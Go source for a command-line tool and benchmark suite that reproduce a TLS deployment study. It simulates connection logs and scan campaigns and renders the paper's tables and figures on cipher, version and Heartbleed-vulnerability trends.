	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	binary := fs.Bool("binary", false, "send the binary batch framing instead of TSV (TSV input is transcoded)")
	batch := fs.Int("batch", notary.DefaultBatchSize, "records per binary batch frame")
	retry := fs.Int("retry", 0, "retries when the server sheds the stream under load (0 = fail fast)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	// encodeSink picks the wire encoder for a pipe: batch frames or TSV
	// lines.
	encodeSink := func(pw *io.PipeWriter) interface {
		notary.Sink
		Close() error
	} {
		if *binary {
			return notary.NewBatchWriter(pw, *batch)
		}
		return notary.NewLogWriter(pw)
	}

	// The stream must be reopenable: a shed attempt restarts from the top,
	// so each try replays the file — or re-runs the deterministic simulation.
	var open func() (io.ReadCloser, error)
	switch {
	case *in != "" && !*binary:
		open = func() (io.ReadCloser, error) { return os.Open(*in) }
	case *in != "":
		// Transcode the TSV log into batch frames on the fly: parse each
		// line, re-encode into frames of -batch records, stream through a
		// pipe. The feeder never holds more than one frame plus the pipe
		// buffer.
		open = func() (io.ReadCloser, error) {
			f, err := os.Open(*in)
			if err != nil {
				return nil, err
			}
			pr, pw := io.Pipe()
			go func() {
				bw := notary.NewBatchWriter(pw, *batch)
				err := notary.ReadLog(f, bw)
				if err == nil {
					err = bw.Close()
				}
				f.Close()
				pw.CloseWithError(err)
			}()
			return pr, nil
		}
	default:
		opts := simulate.DefaultOptions(*conns)
		opts.Seed = *seed
		opts.Workers = *workers
		open = func() (io.ReadCloser, error) {
			// Live replay: the simulator streams straight into the request
			// body (TSV lines or batch frames), so the feeder holds no more
			// than the pipe's buffer. The same seed reproduces the same
			// stream on a retry.
			pr, pw := io.Pipe()
			go func() {
				enc := encodeSink(pw)
				err := simulate.New(opts).Run(enc)
				if err == nil {
					err = enc.Close()
				}
				pw.CloseWithError(err)
			}()
			return pr, nil
		}
	}

	fopts := service.FeedOptions{
		Binary:     *binary,
		MaxRetries: *retry,
		Logf: func(format string, args ...any) {
			fmt.Fprintf(os.Stderr, format+"\n", args...)
		},
	}
	start := time.Now()
	var res service.FeedResult
	var err error
	if *tcpAddr != "" {
		res, err = service.FeedTCP(*tcpAddr, open, fopts)
	} else {
		res, err = service.FeedHTTP(*addr, open, fopts)
	}
	if err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "fed %d records in %v (server generation %d, %d attempt(s))\n",
		res.Records, time.Since(start).Round(time.Millisecond), res.Generation, res.Attempts)
	return nil
}

// cmdQuery evaluates one metric expression (the README query grammar):
// offline against a TSV log or a fresh simulation, or remotely by POSTing
// to a running server's /query endpoint (optionally a named study on a
// multi-study router).
func cmdQuery(args []string) error {
	fs := flag.NewFlagSet("query", flag.ExitOnError)
	expr := fs.String("q", "", "metric expression, e.g. 'pct(version:tls12 / established)'")
	addr := fs.String("addr", "", "query a running server at this base URL instead of evaluating offline")
	study := fs.String("study", "", "server study id (with -addr; empty = the default study's routes)")
	in := fs.String("in", "", "TSV connection log to load (offline; empty = simulate)")
	conns := fs.Int("conns", 600, "connections per month when simulating")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "workers (0 = all cores)")
	asJSON := fs.Bool("json", false, "print the raw JSON result instead of a table")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *expr == "" {
		return fmt.Errorf("query: -q is required (try 'pct(version:tls12 / established)')")
	}
	// Parse locally first so typos fail fast with the grammar error even in
	// remote mode, and so the canonical form is what travels.
	parsed, err := analysis.ParseQuery(*expr)
	if err != nil {
		return err
	}

	var res analysis.QueryResult
	if *addr != "" {
		res, err = remoteQuery(*addr, *study, parsed)
	} else {
		var s core.Study
		s.Options = simulate.DefaultOptions(*conns)
		s.Options.Seed = *seed
		s.Options.Workers = *workers
		if *in != "" {
			f, openErr := os.Open(*in)
			if openErr != nil {
				return openErr
			}
			loadErr := s.LoadLog(f)
			if cerr := f.Close(); cerr != nil && loadErr == nil {
				loadErr = fmt.Errorf("closing %s: %w", *in, cerr)
			}
			if loadErr != nil {
				return loadErr
			}
		} else if err := s.Run(nil); err != nil {
			return err
		}
		res, err = s.QueryExpr(parsed)
	}
	if err != nil {
		return err
	}

	if *asJSON {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		return enc.Encode(res)
	}
	return renderQueryResult(os.Stdout, res)
}

// remoteQuery POSTs an expression to a server's /query endpoint.
func remoteQuery(addr, study string, e *analysis.Expr) (analysis.QueryResult, error) {
	var res analysis.QueryResult
	url := strings.TrimSuffix(addr, "/")
	if study != "" {
		url += "/studies/" + study
	}
	body, err := json.Marshal(map[string]string{"query": e.String()})
	if err != nil {
		return res, err
	}
	resp, err := http.Post(url+"/query", "application/json", strings.NewReader(string(body)))
	if err != nil {
		return res, err
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(io.LimitReader(resp.Body, 1<<24))
	if err != nil {
		return res, fmt.Errorf("query: reading server reply: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		var reply struct {
			Error string   `json:"error"`
			Valid []string `json:"valid"`
		}
		if json.Unmarshal(raw, &reply) == nil && reply.Error != "" {
			if len(reply.Valid) > 0 {
				return res, fmt.Errorf("query: %s (valid: %s)", reply.Error, strings.Join(reply.Valid, ", "))
			}
			return res, fmt.Errorf("query: %s", reply.Error)
		}
		return res, fmt.Errorf("query: server replied %s: %s", resp.Status, strings.TrimSpace(string(raw)))
	}
	if err := json.Unmarshal(raw, &res); err != nil {
		return res, fmt.Errorf("query: decoding server reply: %w", err)
	}
	if gen := resp.Header.Get("X-Generation"); gen != "" {
		fmt.Fprintf(os.Stderr, "server generation %s\n", gen)
	}
	return res, nil
}

// renderQueryResult prints a query answer: scalars as one value, series as
// a month/value table.
func renderQueryResult(w io.Writer, res analysis.QueryResult) error {
	if res.Kind == "scalar" {
		_, err := fmt.Fprintf(w, "%s = %.4f\n", res.Query, res.Value)
		return err
	}
	if _, err := fmt.Fprintf(w, "%s\n%-8s %12s\n", res.Query, "month", "value"); err != nil {
		return err
	}
	for _, p := range res.Series.Points {
		if _, err := fmt.Fprintf(w, "%-8s %12.4f\n", p.Month, p.Value); err != nil {
			return err
		}
	}
	return nil
}

func cmdFigure(args []string) error {
	fs := flag.NewFlagSet("figure", flag.ExitOnError)
	n := fs.Int("n", 1, "figure number (1–10)")
	name := fs.String("name", "", "catalog figure name (see 'tlstrend metrics'); overrides -n")
	conns := fs.Int("conns", 600, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	chart := fs.Bool("chart", false, "render an ASCII chart instead of a table")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *name != "" {
		if _, ok := analysis.SpecByName(*name); !ok {
			return fmt.Errorf("no figure named %q (valid names: %s)",
				*name, strings.Join(analysis.CatalogNames(), ", "))
		}
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	var fig analysis.Figure
	if *name != "" {
		fig, err = s.FigureByName(*name)
	} else {
		fig, err = s.Figure(*n)
	}
	if err != nil {
		return err
	}
	if *chart {
		return fig.RenderChart(os.Stdout, 100, 20)
	}
	return fig.RenderTable(os.Stdout)
}

// cmdMetrics lists the declarative figure catalog: every figure the engine
// can evaluate, with its lookup keys and series names. Pure metadata — no
// simulation runs.
func cmdMetrics(args []string) error {
	fs := flag.NewFlagSet("metrics", flag.ExitOnError)
	if err := fs.Parse(args); err != nil {
		return err
	}
	fmt.Printf("%-4s %-10s %-22s %s\n", "n", "id", "name", "title")
	for _, spec := range analysis.Catalog() {
		num := "-"
		if spec.Num != 0 {
			num = strconv.Itoa(spec.Num)
		}
		fmt.Printf("%-4s %-10s %-22s %s\n", num, spec.ID, spec.Name, spec.Title)
		for _, m := range spec.Metrics {
			fmt.Printf("     %-24s %s\n", m.Name, m.Expr)
		}
	}
	return nil
}

func cmdFigures(args []string) error {
	fs := flag.NewFlagSet("figures", flag.ExitOnError)
	conns := fs.Int("conns", 600, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	figs, err := s.Figures()
	if err != nil {
		return err
	}
	for _, fig := range figs {
		if err := fig.RenderChart(os.Stdout, 100, 16); err != nil {
			return err
		}
		fmt.Println()
	}
	return nil
}

func cmdTable(args []string) error {
	fs := flag.NewFlagSet("table", flag.ExitOnError)
	n := fs.Int("n", 3, "table number (1, 3, 4, 5 or 6)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	switch *n {
	case 1:
		fmt.Println("Table 1 — Release dates of all SSL/TLS versions")
		for _, r := range core.Table1() {
			fmt.Printf("%-8s %04d-%02d\n", r.Name, r.Date.Year, r.Date.Month)
		}
	case 3:
		fmt.Println("Table 3 — Changes in the number of CBC ciphersuites offered by major browsers")
		for _, r := range core.Table3() {
			fmt.Println(r)
		}
	case 4:
		fmt.Println("Table 4 — Changes in the support of RC4 ciphersuites by major browsers")
		for _, r := range core.Table4() {
			fmt.Println(r)
		}
	case 5:
		fmt.Println("Table 5 — Changes in the number of 3DES ciphersuites offered by major browsers")
		for _, r := range core.Table5() {
			fmt.Println(r)
		}
	case 6:
		fmt.Println("Table 6 — Browser TLS version support")
		for _, r := range core.Table6() {
			fmt.Println(r)
		}
	default:
		return fmt.Errorf("no table %d (Table 2 has its own subcommand)", *n)
	}
	return nil
}

func cmdTable2(args []string) error {
	fs := flag.NewFlagSet("table2", flag.ExitOnError)
	conns := fs.Int("conns", 600, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	rep, err := s.Table2()
	if err != nil {
		return err
	}
	return rep.RenderTable2(os.Stdout)
}

func parseDate(s string) (timeline.Date, error) {
	parts := strings.Split(s, "-")
	if len(parts) != 3 {
		return timeline.Date{}, fmt.Errorf("bad date %q (want YYYY-MM-DD)", s)
	}
	y, err1 := strconv.Atoi(parts[0])
	m, err2 := strconv.Atoi(parts[1])
	d, err3 := strconv.Atoi(parts[2])
	if err1 != nil || err2 != nil || err3 != nil || m < 1 || m > 12 || d < 1 || d > 31 {
		return timeline.Date{}, fmt.Errorf("bad date %q", s)
	}
	return timeline.D(y, time.Month(m), d), nil
}

func cmdScan(args []string) error {
	fs := flag.NewFlagSet("scan", flag.ExitOnError)
	hosts := fs.Int("hosts", 300, "farm size")
	workers := fs.Int("workers", 24, "scanner workers")
	seed := fs.Int64("seed", 7, "population seed")
	dateStr := fs.String("date", "2018-05-13", "population snapshot date")
	if err := fs.Parse(args); err != nil {
		return err
	}
	date, err := parseDate(*dateStr)
	if err != nil {
		return err
	}
	c := &core.ScanCampaign{Date: date, Hosts: *hosts, Workers: *workers, Seed: *seed}
	rep, err := c.Run(context.Background())
	if err != nil {
		return err
	}
	fmt.Printf("Scan campaign at %s over %d hosts\n", rep.Date, rep.Hosts)
	fmt.Printf("  SSL3 support:        %6.2f%%\n", rep.SSL3SupportPct())
	fmt.Printf("  chose RC4:           %6.2f%%\n", rep.RC4ChosenPct())
	fmt.Printf("  chose CBC:           %6.2f%%\n", rep.CBCChosenPct())
	fmt.Printf("  chose 3DES:          %6.2f%%\n", rep.TDESChosenPct())
	fmt.Printf("  heartbeat support:   %6.2f%%\n", rep.HeartbeatSupportPct())
	fmt.Printf("  Heartbleed vuln.:    %6.2f%%\n", rep.HeartbleedVulnerablePct())
	fmt.Printf("  export support:      %6.2f%%\n", rep.ExportSupportPct())
	fmt.Printf("  RC4 supported:       %6.2f%%\n", rep.RC4SupportPct())
	fmt.Printf("  Heartbleed leak:     %d bytes over-read across %d hosts\n", rep.LeakedBytes, rep.VulnerableHosts)
	return nil
}

func cmdScanSweep(args []string) error {
	fs := flag.NewFlagSet("scansweep", flag.ExitOnError)
	hosts := fs.Int("hosts", 150, "farm size per snapshot")
	step := fs.Int("step", 3, "months between snapshots")
	workers := fs.Int("workers", 24, "scanner workers")
	seed := fs.Int64("seed", 7, "population seed")
	alexa := fs.Bool("alexa", false, "popularity-weighted (Alexa-style) universe")
	serveAddr := fs.String("serve", "", "after the sweep, host the results as study 'scan' at this HTTP address")
	pushURL := fs.String("push", "", "POST the sweep as one pre-aggregated delta to this core study URL ({url}/merge)")
	pushSource := fs.String("push-source", "scansweep", "delta source name for -push; re-pushing the same campaign from the same source is an idempotent no-op, a different campaign needs a distinct source")
	if err := fs.Parse(args); err != nil {
		return err
	}
	sweep := &core.ScanSweep{
		StepMonths:         *step,
		HostsPerSnapshot:   *hosts,
		Workers:            *workers,
		Seed:               *seed,
		PopularityWeighted: *alexa,
	}
	months, reports, err := sweep.RunReports(context.Background())
	if err != nil {
		return err
	}
	if err := core.RenderSweep(os.Stdout, core.SweepPoints(months, reports)); err != nil {
		return err
	}
	if *pushURL != "" {
		// Federated form of -serve: fold the campaign into a bare aggregate
		// and ship it to a running core's /merge endpoint as one delta, where
		// it answers the same queries without the core re-running the sweep.
		agg, err := core.ScanAggregate(months, reports)
		if err != nil {
			return err
		}
		ack, err := federation.PushDelta(*pushURL, &federation.Delta{Source: *pushSource, Agg: agg}, nil)
		if err != nil {
			return err
		}
		if ack.Duplicate {
			fmt.Fprintf(os.Stderr, "upstream %s had already applied this campaign (source %q); nothing re-counted\n",
				*pushURL, *pushSource)
		} else {
			fmt.Fprintf(os.Stderr, "pushed %d campaign records to %s (upstream generation %d)\n",
				ack.Records, *pushURL, ack.Generation)
		}
	}
	if *serveAddr == "" {
		return nil
	}
	// Host the sweep on the standard query surface: the campaign counters
	// fold into a Study (see core.NewScanStudy) and mount on a Router, so
	// e.g. POST /studies/scan/query {"query": "pct(version:ssl3 / total)"}
	// replays the table above month by month.
	study, err := core.NewScanStudy(months, reports)
	if err != nil {
		return err
	}
	rt := service.NewRouter()
	if err := rt.Add("scan", service.NewServer(study)); err != nil {
		return err
	}
	defer rt.Close()
	ln, err := net.Listen("tcp", *serveAddr)
	if err != nil {
		return err
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	hs := &http.Server{Handler: rt.Handler()}
	go func() {
		<-ctx.Done()
		shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		hs.Shutdown(shutCtx)
	}()
	fmt.Fprintf(os.Stderr, "serving sweep results on http://%s/studies/scan/ (Ctrl-C to stop)\n", ln.Addr())
	if err := hs.Serve(ln); err != nil && err != http.ErrServerClosed {
		return err
	}
	return nil
}

func cmdFingerprints(args []string) error {
	fs := flag.NewFlagSet("fingerprints", flag.ExitOnError)
	conns := fs.Int("conns", 600, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	rep, err := s.Table2()
	if err != nil {
		return err
	}
	if err := rep.RenderTable2(os.Stdout); err != nil {
		return err
	}
	st, err := s.FingerprintDurations()
	if err != nil {
		return err
	}
	fmt.Printf("\n§4.1 fingerprint lifetimes: %d fingerprints, median %.0f d, mean %.1f d, q3 %.0f d, σ %.1f d, max %d d\n",
		st.Total, st.MedianDays, st.MeanDays, st.Q3Days, st.StdDevDays, st.MaxDays)
	fmt.Printf("  single-day: %d (%.1f%%), carrying %d of %d connections\n",
		st.SingleDay, 100*float64(st.SingleDay)/float64(st.Total), st.SingleDayConns, st.TotalConns)
	fmt.Printf("  seen >1200 days: %d, carrying %d connections\n", st.LongLived, st.LongLivedConns)
	return nil
}

func cmdExtensions(args []string) error {
	fs := flag.NewFlagSet("extensions", flag.ExitOnError)
	conns := fs.Int("conns", 600, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	chart := fs.Bool("chart", false, "render an ASCII chart instead of a table")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	fig, err := s.ExtensionFigure()
	if err != nil {
		return err
	}
	if *chart {
		if err := fig.RenderChart(os.Stdout, 100, 18); err != nil {
			return err
		}
	} else if err := fig.RenderTable(os.Stdout); err != nil {
		return err
	}
	shares, err := s.TLS13Variants()
	if err != nil {
		return err
	}
	fmt.Println("\nAdvertised TLS 1.3 variants (paper: 0x7e02 82.3%, draft-18 13.4%):")
	for _, v := range shares {
		fmt.Printf("  %-16v %6.1f%%\n", v.Variant, v.Share)
	}
	return nil
}

func cmdExperiments(args []string) error {
	fs := flag.NewFlagSet("experiments", flag.ExitOnError)
	conns := fs.Int("conns", 1500, "connections per month")
	hosts := fs.Int("hosts", 400, "scan farm size")
	seed := fs.Int64("seed", 1, "seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, "")
	if err != nil {
		return err
	}
	scalars, err := s.Scalars()
	if err != nil {
		return err
	}
	if err := analysis.RenderScalars(os.Stdout, "Passive study (Notary substitute)", scalars); err != nil {
		return err
	}
	fmt.Println()

	run := func(d timeline.Date) (*core.CampaignReport, error) {
		c := &core.ScanCampaign{Date: d, Hosts: *hosts, Workers: 24, Seed: *seed}
		return c.Run(context.Background())
	}
	sep15, err := run(timeline.D(2015, time.September, 15))
	if err != nil {
		return err
	}
	may18, err := run(timeline.D(2018, time.May, 13))
	if err != nil {
		return err
	}
	if err := analysis.RenderScalars(os.Stdout, "Active scans (Censys substitute)", core.ScanScalars(sep15, may18)); err != nil {
		return err
	}
	fmt.Println()
	rep, err := s.Table2()
	if err != nil {
		return err
	}
	return rep.RenderTable2(os.Stdout)
}
