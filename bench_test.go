// Benchmarks regenerating every table and figure of the paper, plus the
// ablations called out in DESIGN.md §4. Each artifact bench reports its
// headline measured value via b.ReportMetric so a bench run doubles as an
// experiment log (compare against EXPERIMENTS.md).
//
// The passive aggregate is simulated once per process (studyAggregate) at
// study scale; artifact benches then measure regeneration from it. The
// end-to-end pipeline cost is measured separately by the simulation benches.
package tlsage

import (
	"bytes"
	"context"
	"io"
	"math/rand"
	"sync"
	"testing"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/clientdb"
	"tlsage/internal/core"
	"tlsage/internal/fingerprint"
	"tlsage/internal/handshake"
	"tlsage/internal/notary"
	"tlsage/internal/population"
	"tlsage/internal/registry"
	"tlsage/internal/scanner"
	"tlsage/internal/serverfarm"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
)

var (
	benchOnce      sync.Once
	benchAgg       *notary.Aggregate
	benchFrameOnce sync.Once
	benchFrame     *analysis.Frame
)

func studyAggregate(b *testing.B) *notary.Aggregate {
	b.Helper()
	benchOnce.Do(func() {
		sim := simulate.New(simulate.DefaultOptions(800))
		var err error
		benchAgg, err = sim.RunAggregate()
		if err != nil {
			panic(err)
		}
	})
	return benchAgg
}

// studyFrame is the columnar snapshot the per-figure benches evaluate
// against, built once per process like the aggregate it snapshots.
func studyFrame(b *testing.B) *analysis.Frame {
	b.Helper()
	agg := studyAggregate(b)
	benchFrameOnce.Do(func() { benchFrame = analysis.NewFrame(agg) })
	return benchFrame
}

// benchFigure fetches one catalog figure from the shared frame.
func benchFigure(b *testing.B, n int) analysis.Figure {
	fig, ok := studyFrame(b).FigureByNum(n)
	if !ok {
		b.Fatalf("no figure %d", n)
	}
	return fig
}

// monthVal extracts a series value for metric reporting.
func monthVal(fig analysis.Figure, series string, y int, m time.Month) float64 {
	s, ok := fig.SeriesByName(series)
	if !ok {
		return -1
	}
	v, _ := s.Value(timeline.M(y, m))
	return v
}

// --- Tables ---

func BenchmarkTable1VersionDates(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows := core.Table1()
		if len(rows) != 6 {
			b.Fatal("table 1 rows")
		}
	}
}

func BenchmarkTable2FingerprintSummary(b *testing.B) {
	agg := studyAggregate(b)
	db := fingerprint.BuildDefault()
	b.ResetTimer()
	var rep analysis.Table2Report
	for i := 0; i < b.N; i++ {
		rep = analysis.BuildTable2(agg, db)
	}
	b.ReportMetric(rep.TotalCoverage, "coverage_pct_paper_69.23")
	b.ReportMetric(float64(rep.TotalFPs), "fingerprints_paper_1562")
}

func benchBrowserTable(b *testing.B, build func() []clientdb.TableRow, wantRows int) {
	b.Helper()
	var rows []clientdb.TableRow
	for i := 0; i < b.N; i++ {
		rows = build()
	}
	if len(rows) < wantRows {
		b.Fatalf("only %d rows", len(rows))
	}
	b.ReportMetric(float64(len(rows)), "rows")
}

func BenchmarkTable3BrowserCBC(b *testing.B)  { benchBrowserTable(b, core.Table3, 15) }
func BenchmarkTable4BrowserRC4(b *testing.B)  { benchBrowserTable(b, core.Table4, 10) }
func BenchmarkTable5Browser3DES(b *testing.B) { benchBrowserTable(b, core.Table5, 6) }

func BenchmarkTable6BrowserVersions(b *testing.B) {
	var rows []clientdb.VersionSupportRow
	for i := 0; i < b.N; i++ {
		rows = core.Table6()
	}
	b.ReportMetric(float64(len(rows)), "rows")
}

// --- Figures (catalog evaluation over the shared columnar frame) ---

// BenchmarkFrameBuild measures the one-pass columnar snapshot of the study
// aggregate that all figure/scalar queries evaluate against.
func BenchmarkFrameBuild(b *testing.B) {
	agg := studyAggregate(b)
	b.ReportAllocs()
	b.ResetTimer()
	var f *analysis.Frame
	for i := 0; i < b.N; i++ {
		f = analysis.NewFrame(agg)
	}
	b.ReportMetric(float64(f.Len()), "months")
}

// BenchmarkAllFigures measures the full frame path end to end: snapshot
// build plus all ten catalog figures (compare BenchmarkAllFiguresLegacy in
// internal/analysis, the recorded pre-refactor map-walking baseline).
func BenchmarkAllFigures(b *testing.B) {
	agg := studyAggregate(b)
	b.ReportAllocs()
	b.ResetTimer()
	var figs []analysis.Figure
	for i := 0; i < b.N; i++ {
		figs = analysis.AllFigures(agg)
	}
	if len(figs) != 10 {
		b.Fatal("figure count")
	}
}

// BenchmarkQueryEval measures the Expr interpreter on the catalog-equivalent
// expressions of Figure 1 (five version-share series). Compare against
// BenchmarkQueryEvalNative: the same five series through the catalog engine
// (Frame.EvalFigure), which evaluates the same Expr data plus the
// Figure/Point packaging.
func BenchmarkQueryEval(b *testing.B) {
	f := studyFrame(b)
	exprs := make([]*analysis.Expr, 0, 5)
	for _, v := range []string{"ssl3", "tls10", "tls11", "tls12", "tls13"} {
		e, err := analysis.ParseQuery("pct(version:" + v + " / established)")
		if err != nil {
			b.Fatal(err)
		}
		exprs = append(exprs, e)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var vals []float64
	for i := 0; i < b.N; i++ {
		for _, e := range exprs {
			var err error
			vals, err = f.EvalSeries(e)
			if err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(vals[len(vals)-1], "tls13_apr18_pct")
}

// BenchmarkQueryEvalNative is the catalog-engine side of the comparison.
func BenchmarkQueryEvalNative(b *testing.B) {
	studyFrame(b)
	b.ReportAllocs()
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 1)
	}
	b.ReportMetric(float64(len(fig.Series)), "series")
}

// benchPlans compiles the Figure 1 expression set (the same five series
// BenchmarkQueryEval interprets) against the shared frame.
func benchPlans(b *testing.B) []*analysis.Plan {
	b.Helper()
	f := studyFrame(b)
	plans := make([]*analysis.Plan, 0, 5)
	for _, v := range []string{"ssl3", "tls10", "tls11", "tls12", "tls13"} {
		p, err := analysis.CompileQuery("pct(version:"+v+" / established)", f)
		if err != nil {
			b.Fatal(err)
		}
		plans = append(plans, p)
	}
	return plans
}

// BenchmarkQueryCompiled measures the plan path on the exact expression set
// of BenchmarkQueryEval: compile once, then evaluate per request — the
// served hot path on a cache miss.
func BenchmarkQueryCompiled(b *testing.B) {
	plans := benchPlans(b)
	b.ReportAllocs()
	b.ResetTimer()
	var vals []float64
	for i := 0; i < b.N; i++ {
		for _, p := range plans {
			vals = p.EvalSeries()
		}
	}
	b.ReportMetric(vals[len(vals)-1], "tls13_apr18_pct")
}

// BenchmarkQueryCompiledResult measures compiled evaluation of the full
// served QueryResult (Plan.Eval — the fused kernel plus materializing the
// month-labelled point list) for the same expression set. This is the exact
// work a cache hit skips: BenchmarkQueryCacheHit returns the same results
// from the generation-keyed cache without touching the frame.
func BenchmarkQueryCompiledResult(b *testing.B) {
	plans := benchPlans(b)
	b.ReportAllocs()
	b.ResetTimer()
	var res analysis.QueryResult
	for i := 0; i < b.N; i++ {
		for _, p := range plans {
			res = p.Eval()
		}
	}
	b.ReportMetric(float64(len(res.Series.Points)), "points")
}

// BenchmarkQueryCacheHit measures a generation-keyed cache hit on the same
// five queries — the served hot path for a dashboard hammering an unchanged
// study. A hit yields the same QueryResults as BenchmarkQueryCompiledResult
// for the cost of a map lookup: the clone shares the immutable Points
// backing array, so no per-point work (or allocation) happens at all.
func BenchmarkQueryCacheHit(b *testing.B) {
	plans := benchPlans(b)
	f := studyFrame(b)
	cache := analysis.NewQueryCache(64, 1<<20)
	keys := make([]string, len(plans))
	for i, p := range plans {
		keys[i] = p.Query()
		cache.Put("bench", 0, f.Generation(), keys[i], p.Eval(), nil)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var res analysis.QueryResult
	for i := 0; i < b.N; i++ {
		for _, key := range keys {
			var ok bool
			res, _, ok = cache.Get("bench", 0, f.Generation(), key)
			if !ok {
				b.Fatal("unexpected miss")
			}
		}
	}
	b.ReportMetric(float64(len(res.Series.Points)), "points")
}

// BenchmarkAllFiguresCompiled measures the whole catalog through the
// pre-compiled shared plans (the first Figures call pays the one-time
// compile; the loop measures the steady state every /figures request sees).
func BenchmarkAllFiguresCompiled(b *testing.B) {
	f := studyFrame(b)
	f.Figures() // warm the shared plan memo
	b.ReportAllocs()
	b.ResetTimer()
	var figs []analysis.Figure
	for i := 0; i < b.N; i++ {
		figs = f.Figures()
	}
	if len(figs) != 10 {
		b.Fatal("figure count")
	}
}

func BenchmarkFigure1NegotiatedVersions(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 1)
	}
	b.ReportMetric(monthVal(fig, "TLSv12", 2018, time.February), "tls12_feb18_pct_paper_90")
	b.ReportMetric(monthVal(fig, "TLSv10", 2018, time.February), "tls10_feb18_pct_paper_2.8")
}

func BenchmarkFigure2NegotiatedModes(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 2)
	}
	b.ReportMetric(monthVal(fig, "RC4", 2013, time.August), "rc4_aug13_pct_paper_60")
	b.ReportMetric(monthVal(fig, "AEAD", 2018, time.March), "aead_mar18_pct_paper_90")
}

func BenchmarkFigure3AdvertisedModes(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 3)
	}
	b.ReportMetric(monthVal(fig, "3DES", 2018, time.March), "tdes_mar18_pct_paper_69")
}

func BenchmarkFigure4FingerprintModes(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 4)
	}
	b.ReportMetric(monthVal(fig, "RC4", 2018, time.March), "fp_rc4_mar18_pct_paper_39.9")
}

func BenchmarkFigure5CipherPositions(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 5)
	}
	b.ReportMetric(monthVal(fig, "AEAD", 2016, time.June), "aead_pos_jun16_pct")
	b.ReportMetric(monthVal(fig, "3DES", 2016, time.June), "tdes_pos_jun16_pct")
}

func BenchmarkFigure6RC4Advertised(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 6)
	}
	b.ReportMetric(monthVal(fig, "RC4 advertised", 2018, time.March), "rc4_adv_mar18_pct_paper_10")
}

func BenchmarkFigure7WeakCiphers(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 7)
	}
	b.ReportMetric(monthVal(fig, "Export", 2012, time.June), "export_jun12_pct_paper_28.19")
	b.ReportMetric(monthVal(fig, "Anonymous", 2015, time.July), "anon_jul15_pct_paper_12.9")
}

func BenchmarkFigure8ForwardSecrecy(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 8)
	}
	b.ReportMetric(monthVal(fig, "ECDHE", 2018, time.March), "ecdhe_mar18_pct_paper_85")
	b.ReportMetric(monthVal(fig, "RSA", 2012, time.June), "rsa_jun12_pct_paper_60")
}

func BenchmarkFigure9AEADNegotiated(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 9)
	}
	b.ReportMetric(monthVal(fig, "ChaCha20-Poly1305", 2018, time.March), "chacha_mar18_pct_paper_1.7")
}

func BenchmarkFigure10AEADAdvertised(b *testing.B) {
	studyFrame(b)
	b.ResetTimer()
	var fig analysis.Figure
	for i := 0; i < b.N; i++ {
		fig = benchFigure(b, 10)
	}
	b.ReportMetric(monthVal(fig, "AES128-GCM", 2018, time.March), "gcm128_adv_mar18_pct")
}

